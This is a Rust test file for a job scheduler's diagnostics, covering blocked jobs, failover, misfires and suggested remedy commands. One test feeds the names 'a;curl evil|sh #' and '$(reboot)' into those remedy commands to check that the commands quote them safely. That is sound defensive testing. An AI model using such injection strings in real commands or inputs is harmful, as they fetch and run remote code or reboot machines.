use super::*;

use crate::config::{JobConfiguration, wire};
use crate::ident::InstanceId;
use crate::registry::layout::instance_yaml;
use crate::texts;

const CONFIG: &str = "cron: 0 0 0 1 1 ?\nmonitorExecution: true\nshardingTotalCount: 1\ntimeZone: GMT\n";

fn me() -> InstanceId {
    InstanceId::of_process("10.0.0.1", 7)
}

/// A job that could run at any time.
pub(super) async fn ready() -> Desk {
    let desk = Desk::new();
    desk.write(&[
        ("/job/config", CONFIG),
        ("/job/instances/10.0.0.1@-@7", &instance_yaml(&me())),
        ("/job/servers/10.0.0.1", "ENABLED"),
        ("/job/leader/election/instance", "10.0.0.1@-@7"),
        ("/job/sharding/0/instance", "10.0.0.1@-@7"),
    ])
    .await;
    desk
}

async fn job(desk: &Desk) -> Vec<Reason> {
    reasons(&desk.operations.snapshot(&name("job")).await.unwrap())
}

async fn item(desk: &Desk) -> Vec<Reason> {
    let findings = desk.operations.snapshot(&name("job")).await.unwrap().findings_of(0, 0);
    assert!(findings.iter().all(|finding| finding.item == Some(0)), "{findings:?}");
    findings.into_iter().map(|finding| finding.reason).collect()
}

pub(super) fn record(state: &str) -> String {
    format!(r#"{{"through":5000,"last":{{"at":5000,"instance":"10.0.0.1@-@7","attempt":"2a-1","state":"{state}"}}}}"#)
}

#[tokio::test]
async fn nothing_keeps_a_ready_job_from_running() {
    let desk = ready().await;
    assert_eq!(job(&desk).await, []);
    assert_eq!(item(&desk).await, [Reason::NeverRun]);
}

#[tokio::test]
async fn an_instance_that_no_session_owns_does_not_count_and_is_told() {
    let desk = ready().await;
    let copied: InstanceId = "10.0.0.1@-@copied".parse().unwrap();
    desk.write(&[("/job/instances/10.0.0.1@-@copied", ""), ("/job/sharding/0/instance", "10.0.0.1@-@copied")]).await;
    assert_eq!(job(&desk).await, [Reason::SessionlessInstances(vec![copied.clone()])]);
    assert_eq!(item(&desk).await, [Reason::OwnerOffline(copied), Reason::NeverRun]);
    let brief = desk.operations.job(&name("job")).await.unwrap();
    assert_eq!((brief.instance_count, brief.status), (1, JobState::ShardingFlag));
}

#[tokio::test]
async fn what_keeps_a_job_from_running_is_told() {
    let cases: [(&str, &str, Reason); 8] = [
        ("/job/instances/10.0.0.2@-@7", "", Reason::JavaTakesPart),
        ("/job/servers/10.0.0.1", "DISABLED", Reason::AllServersDisabled),
        ("/job/leader/sharding/necessary", "", Reason::Resharding),
        ("/job/leader/sharding/processing", "", Reason::Resharding),
        ("/job/trigger/10.0.0.1@-@7", "", Reason::Triggered(vec![me()])),
        ("/job/config", "monitorExecution: true\nshardingTotalCount: 1\n", Reason::OneOff),
        ("/job/config", "cron: 0 0 0 1 1 ?\nshardingTotalCount: 1\ntimeZone: GMT\n", Reason::NotMonitored),
        (
            "/job/config",
            "shardingTotalCount: 0\n",
            Reason::ConfigurationRefused(texts::problems(vec![texts::wrong_setting(
                "sharding-total-count",
                texts::count_zero(),
            )])),
        ),
    ];
    for (path, data, finding) in cases {
        let desk = ready().await;
        desk.write(&[(path, data)]).await;
        assert_eq!(job(&desk).await, [finding]);
    }
    let desk = Desk::new();
    desk.write(&[("/job", "")]).await;
    assert_eq!(job(&desk).await, [Reason::NoConfiguration, Reason::NoInstance]);
    let desk = Desk::new();
    let instance = instance_yaml(&me());
    desk.write(&[
        ("/job/config", CONFIG),
        ("/job/instances/10.0.0.1@-@7", &instance),
        ("/job/servers/10.0.0.1", "ENABLED"),
    ])
    .await;
    assert_eq!(job(&desk).await, [Reason::NoLeader, Reason::NotAssignedYet]);
}

#[tokio::test]
async fn a_carried_job_that_is_disabled_by_its_registration_is_not_crashed() {
    for (mark, app) in [("/state/disable/job/job", None), ("/state/disable/app/night", Some("night".to_owned()))] {
        let desk = Desk::new();
        desk.write(&[("/job/config", CONFIG), ("/config/job/job", r#"{"jobName":"job","appName":"night"}"#)]).await;
        assert_eq!(desk.operations.job(&name("job")).await.unwrap().status, JobState::Crashed);
        assert_eq!(job(&desk).await, [Reason::NoInstance]);
        desk.write(&[(mark, "")]).await;
        assert_eq!(desk.operations.job(&name("job")).await.unwrap().status, JobState::Disabled);
        assert_eq!(job(&desk).await, [Reason::RegistrationDisabled { app }]);
        let error = desk.operations.trigger(&Target::Job(name("job"))).await.unwrap_err().to_string();
        assert!(
            error.contains("the registration of the carried job 'job', or its application, is disabled"),
            "{error}"
        );
        let snapshot = desk.operations.snapshot(&name("job")).await.unwrap();
        let finding = snapshot.findings(0).remove(0);
        assert_eq!((finding.code(), finding.remedy()), ("registration-disabled", Some(Remedy::EnableRegistration)));
        assert!(finding.since.is_some());
        // A scheduler that has not left so far still runs it.
        desk.write(&[("/job/instances/10.0.0.1@-@7", &instance_yaml(&me()))]).await;
        assert_ne!(desk.operations.job(&name("job")).await.unwrap().status, JobState::Disabled);
    }
}

#[tokio::test]
async fn a_schedule_that_has_ended_is_told() {
    let desk = ready().await;
    desk.write(&[(
        "/job/config",
        "cron: 0 0 0 1 1 ? 1971\nmonitorExecution: true\nshardingTotalCount: 1\ntimeZone: GMT\n",
    )])
    .await;
    let snapshot = desk.operations.snapshot(&name("job")).await.unwrap();
    assert_eq!(snapshot.findings(0), []);
    let later: Vec<Reason> = snapshot.findings(31_536_000_000).into_iter().map(|finding| finding.reason).collect();
    assert_eq!(later, [Reason::NeverFiresAgain]);
}

#[tokio::test]
async fn what_keeps_an_item_from_running_is_told() {
    let cases: [(&str, &str, Reason); 4] = [
        ("/job/sharding/0/disabled", "", Reason::ItemDisabled),
        ("/job/sharding/0/instance", "10.0.0.2@-@7", Reason::OwnerOffline(InstanceId::of_process("10.0.0.2", 7))),
        ("/job/sharding/0/instance", "", Reason::NoOwner),
        ("/job/servers/10.0.0.1", "DISABLED", Reason::OwnerDisabled(me())),
    ];
    for (path, data, finding) in cases {
        let desk = ready().await;
        desk.write(&[(path, data)]).await;
        assert_eq!(item(&desk).await, [finding, Reason::NeverRun]);
    }
    let desk = ready().await;
    let snapshot = desk.operations.snapshot(&name("job")).await.unwrap();
    let finding = &snapshot.findings_of(1, 0)[0];
    assert_eq!((&finding.reason, finding.item), (&Reason::NoSuchItem(1), Some(1)));
}

#[tokio::test]
async fn a_run_lives_is_lost_waits_or_is_left_undone() {
    let desk = ready().await;
    desk.write(&[("/job/sharding/0/running", "10.0.0.1@-@7"), ("/job/sharding/0/fire", &record("RUNNING"))]).await;
    // The session of its attempt has no node, though an instance with the same id is online again.
    assert_eq!(item(&desk).await, [Reason::RunLost { instance: Some(me()), failover: Some(false) }]);
    desk.write(&[("/job/config", &format!("{CONFIG}failover: true\n"))]).await;
    assert_eq!(item(&desk).await, [Reason::RunLost { instance: Some(me()), failover: Some(true) }]);
    desk.write(&[("/job/config", "failover: [")]).await;
    let told = item(&desk).await;
    assert_eq!(told, [Reason::RunLost { instance: Some(me()), failover: None }]);
    assert!(!told[0].to_string().contains("failover is off"), "{}", told[0]);
    desk.write(&[("/job/config", &format!("{CONFIG}failover: true\n"))]).await;
    desk.write(&[("/job/sessions/2a", "10.0.0.1@-@7"), ("/job/sharding/0/failovering", "10.0.0.1@-@7")]).await;
    let found = item(&desk).await;
    assert!(matches!(found[..], [Reason::Running { taken_over: true, .. }]), "{found:?}");

    let desk = ready().await;
    desk.write(&[("/job/sharding/0/fire", &record("CANCELLED"))]).await;
    let found = item(&desk).await;
    assert!(matches!(found[..], [Reason::LeftUndone(_)]), "{found:?}");
    desk.write(&[("/job/leader/failover/items/0", "")]).await;
    assert_eq!(item(&desk).await, [Reason::AwaitsFailover]);
    assert!(Reason::AwaitsFailover.is_obstacle());
}

#[tokio::test]
async fn a_mark_of_a_java_instance_lives_with_that_instance() {
    let desk = ready().await;
    desk.write(&[("/job/sharding/0/running", "10.0.0.1@-@7")]).await;
    assert!(matches!(item(&desk).await[..], [Reason::Running { .. }]));
    desk.write(&[("/job/sharding/0/running", "10.0.0.2@-@7")]).await;
    assert!(matches!(item(&desk).await[..], [Reason::RunLost { .. }]));
}

#[tokio::test]
async fn a_missed_fire_and_the_end_of_a_run_are_told_with_their_times() {
    let desk = ready().await;
    let record = r#"{"through":5000,"missed":9000,"last":{"at":5000,"instance":"10.0.0.1@-@7","attempt":"2a-1","began":5003,"state":"FAILED","ended":5015,"took":12,"error":"no disk"}}"#;
    desk.write(&[("/job/sharding/0/misfire", ""), ("/job/sharding/0/fire", record)]).await;
    let told: Vec<String> = item(&desk).await.iter().map(ToString::to_string).collect();
    let expected = [
        "its last run, NORMAL_TRIGGER for the fire of 1970-01-01T00:00:05+00:00 on 10.0.0.1@-@7 begun at 1970-01-01T00:00:05.003+00:00, failed after 12 ms at 1970-01-01T00:00:05.015+00:00: no disk",
        "the fire of 1970-01-01T00:00:09+00:00 came while the item was running; it runs when that run has ended",
    ];
    assert_eq!(told, expected);
}

#[tokio::test]
async fn a_fire_that_no_instance_began_is_told_until_the_next_begin() {
    let desk = ready().await;
    desk.write(&[
        ("/job/instances/10.0.0.1@-@7", &instance_yaml(&me())),
        ("/job/sharding/0/fire", &record("SUCCEEDED")),
        ("/job/config", &format!("{CONFIG}misfire: true\n")),
    ])
    .await;
    let found = async |now: i64| {
        let findings = desk.operations.snapshot(&name("job")).await.unwrap().findings_of(0, now);
        findings.into_iter().map(|finding| finding.reason).find(|reason| matches!(reason, Reason::NotBegun { .. }))
    };
    let written = chrono::Utc::now().timestamp_millis();
    let first = desk.operations.snapshot(&name("job")).await.unwrap().next_fire(written).unwrap();
    let not_begun = |limit, given_up| Some(Reason::NotBegun { first, more: false, limit, given_up });
    assert_eq!(found(first + 1_999).await, None);
    assert_eq!(found(first + 2_000).await, not_begun(None, false));
    desk.write(&[("/job/sharding/0/fire", "{}")]).await;
    assert_eq!(found(first + 2_000).await, not_begun(None, false), "also the first fire of all");
    let year = 366 * 24 * 3_600_000;
    assert_eq!(found(first + year).await, Some(Reason::NotBegun { first, more: true, limit: None, given_up: true }));
    desk.write(&[("/job/config", CONFIG)]).await;
    assert_eq!(found(first + 10_000).await, not_begun(Some(10), false));
    assert_eq!(found(first + 10_001).await, not_begun(Some(10), true));
    // The other reasons.
    for (path, data) in [
        ("/job/sharding/0/disabled", ""),
        ("/job/sharding/0/running", "10.0.0.1@-@7"),
        ("/job/leader/failover/items/0", ""),
        // Data of a Java instance.
        ("/job/instances/10.0.0.2@-@7", ""),
    ] {
        desk.write(&[(path, data)]).await;
        assert_eq!(found(first + 10_001).await, None, "{path}");
        let mut deleted = Transaction::new();
        deleted.delete(path, None);
        desk.operations.registry.commit(deleted).await.unwrap();
        assert_eq!(found(first + 10_001).await, not_begun(Some(10), true));
    }
}

#[tokio::test]
async fn a_fire_after_other_jobs_that_no_instance_began_is_told_too() {
    const DUE: i64 = 4_000_000_000_000;
    let desk = ready().await;
    let config = JobConfiguration::builder("job", 1).depends_on(["extract"]).misfire(false).build().unwrap();
    let config = wire::to_yaml(&config);
    let decided = |more: &str| {
        format!(
            r#"{{"through":{DUE},"due":{{"at":{DUE},"since":{}}},"decided":[{{"at":7000}},{{"at":{DUE}}}{more}]}}"#,
            DUE + 60_000
        )
    };
    let instance = instance_yaml(&me());
    desk.write(&[("/job/instances/10.0.0.1@-@7", instance.as_str()), ("/job/config", &config)]).await;
    desk.write(&[("/job/sharding/0/fire", record("SUCCEEDED").as_str()), ("/job/dependencies", &decided(""))]).await;
    let found = async |now: i64| {
        let findings = desk.operations.snapshot(&name("job")).await.unwrap().findings_of(0, now);
        findings.into_iter().map(|finding| finding.reason).find(|reason| matches!(reason, Reason::NotBegun { .. }))
    };
    let not_begun = |given_up, more| Some(Reason::NotBegun { first: DUE, more, limit: Some(10), given_up });
    assert_eq!(found(DUE + 61_999).await, None, "the fire of 7000 was before the record; this one is due for 2 s");
    assert_eq!(found(DUE + 62_000).await, not_begun(false, false));
    assert_eq!(found(DUE + 70_001).await, not_begun(true, false));
    let unmet = r#"{"job":"extract","when":"succeeded","end":"failed"}"#;
    desk.write(&[("/job/dependencies", &decided(&format!(r#",{{"at":{},"skipped":{unmet}}}"#, DUE + 1_000)))]).await;
    assert_eq!(found(DUE + 62_000).await, not_begun(false, false), "the one after it is not run");
    desk.write(&[("/job/dependencies", &decided(&format!(r#",{{"at":{}}}"#, DUE + 1_000)))]).await;
    assert_eq!(found(DUE + 62_000).await, not_begun(true, true));
    desk.write(&[("/job/sharding/0/fire", &format!(r#"{{"through":{}}}"#, DUE + 1_000))]).await;
    assert_eq!(found(DUE + 70_001).await, None);
}

#[test]
fn a_command_of_a_remedy_runs_nothing_of_a_name() {
    let job = JobName::new("a;curl evil|sh #").unwrap();
    let command = |remedy: Remedy| remedy.command(&job).unwrap();
    assert_eq!(command(Remedy::Trigger), "elasticjob trigger 'a;curl evil|sh #'");
    let server = Remedy::EnableServer("$(reboot)".to_owned());
    assert_eq!(command(server), "elasticjob enable --job 'a;curl evil|sh #' --server '$(reboot)'");
    for remedy in [
        Remedy::CorrectConfiguration,
        Remedy::ChangeSchedule,
        Remedy::EnableServers,
        Remedy::EnableItem(0),
        Remedy::CancelRun(0),
    ] {
        let command = command(remedy);
        assert!(command.contains("'a;curl evil|sh #'"), "{command}");
    }
    let dashed = |remedy: Remedy| remedy.command(&JobName::new("--json").unwrap()).unwrap();
    assert_eq!(dashed(Remedy::Trigger), "elasticjob trigger -- --json", "it is no option");
    assert_eq!(dashed(Remedy::CancelRun(0)), "elasticjob cancel --item 0 -- --json");
    assert_eq!(dashed(Remedy::EnableItem(0)), "elasticjob enable --job=--json --item 0");
}

#[tokio::test]
async fn the_schedule_is_followed_since_the_note_of_the_leader_where_it_is_of_that_schedule() {
    let desk = ready().await;
    let since = async || desk.operations.snapshot(&name("job")).await.unwrap().followed_since;
    let edited = desk.operations.registry.get("/job/config").await.unwrap().unwrap().stat.mtime;
    assert_eq!(since().await, Some(edited));
    for (zone, expected) in [("UTC", edited), ("GMT", 7)] {
        let note = format!(r#"{{"schedule":{{"cron":"0 0 0 1 1 ?","since":7,"timeZone":"{zone}"}}}}"#);
        desk.write(&[("/job/sharding", &note)]).await;
        assert_eq!(since().await, Some(expected), "noted for {zone}");
    }
}

/// The nodes are those that a Java instance and its console write as well.
#[tokio::test]
async fn a_state_is_told_with_the_time_of_the_node_that_says_it() {
    type Said = (&'static str, Option<Remedy>);
    let enable = |server: &str| Some(Remedy::EnableServer(server.to_owned()));
    let cases: [(&str, &str, Said); 9] = [
        ("/job/servers/10.0.0.1", "DISABLED", ("all-servers-disabled", Some(Remedy::EnableServers))),
        ("/job/servers/10.0.0.1", "DISABLED", ("owner-disabled", enable("10.0.0.1"))),
        ("/job/leader/sharding/necessary", "", ("resharding", None)),
        ("/job/leader/sharding/processing", "", ("resharding", None)),
        ("/job/trigger/10.0.0.1@-@7", "", ("triggered", None)),
        ("/job/config", "a: [", ("configuration-refused", Some(Remedy::CorrectConfiguration))),
        ("/job/sharding/0/disabled", "", ("item-disabled", Some(Remedy::EnableItem(0)))),
        ("/job/sharding/0/misfire", "", ("misfired", None)),
        ("/job/leader/failover/items/0", "", ("awaits-failover", None)),
    ];
    for (path, data, (code, remedy)) in cases {
        let desk = ready().await;
        // The clock of the registry goes on, so that this node is younger than the others.
        let last = desk.operations.registry.get("/job/sharding/0/instance").await.unwrap().unwrap().stat.mtime;
        while chrono::Utc::now().timestamp_millis() <= last {
            tokio::task::yield_now().await;
        }
        desk.write(&[(path, data)]).await;
        let stat = desk.operations.registry.get(path).await.unwrap().unwrap().stat;
        let snapshot = desk.operations.snapshot(&name("job")).await.unwrap();
        let findings = [snapshot.findings(0), snapshot.findings_of(0, 0)].concat();
        let found = findings.iter().find(|finding| finding.code() == code).unwrap_or_else(|| panic!("{findings:?}"));
        assert_eq!((found.since, found.remedy()), (Some(stat.mtime), remedy), "{code}");
        let text = found.describe(&|at| format!("<{at}>"));
        assert!(text.ends_with(&format!("(since <{}>)", stat.mtime)), "{text}");
    }
    let desk = ready().await;
    let snapshot = desk.operations.snapshot(&name("job")).await.unwrap();
    let time = async |path: &str| desk.operations.registry.get(path).await.unwrap().map(|node| node.stat.mtime);
    assert_eq!(snapshot.online_since(&me()), time("/job/instances/10.0.0.1@-@7").await);
    assert_eq!(snapshot.server_changed("10.0.0.1"), time("/job/servers/10.0.0.1").await);
    assert_eq!(snapshot.leader_since(), time("/job/leader/election/instance").await);
    assert_eq!(snapshot.configured_since(), time("/job/config").await);
    assert_eq!(snapshot.items[&0].owned_since, time("/job/sharding/0/instance").await);
}

#[tokio::test]
async fn a_finding_is_data_for_texts_in_any_language() {
    let desk = ready().await;
    let record = r#"{"last":{"at":5000,"instance":"10.0.0.1@-@7","attempt":"2a-1","began":5003,"state":"FAILED","ended":5015,"took":12,"error":"no disk"}}"#;
    desk.write(&[("/job/sharding/0/fire", record)]).await;
    let findings = desk.operations.snapshot(&name("job")).await.unwrap().findings_of(0, 0);
    let [ended] = &findings[..] else { panic!("{findings:?}") };
    let arguments = serde_json::to_string(&ended.arguments()).unwrap();
    let expected = r#"{"beganAt":5003,"endedAt":5015,"error":"no disk","fireAt":5000,"instance":"10.0.0.1@-@7","item":0,"manual":false,"source":"NORMAL_TRIGGER","state":"FAILED","tookMilliseconds":12}"#;
    assert_eq!((ended.code(), arguments.as_str(), ended.since), ("ended", expected, Some(5_015)));
    assert_eq!(
        ended.remedy().and_then(|remedy| remedy.command(&name("job"))).as_deref(),
        Some("elasticjob trigger job")
    );
}
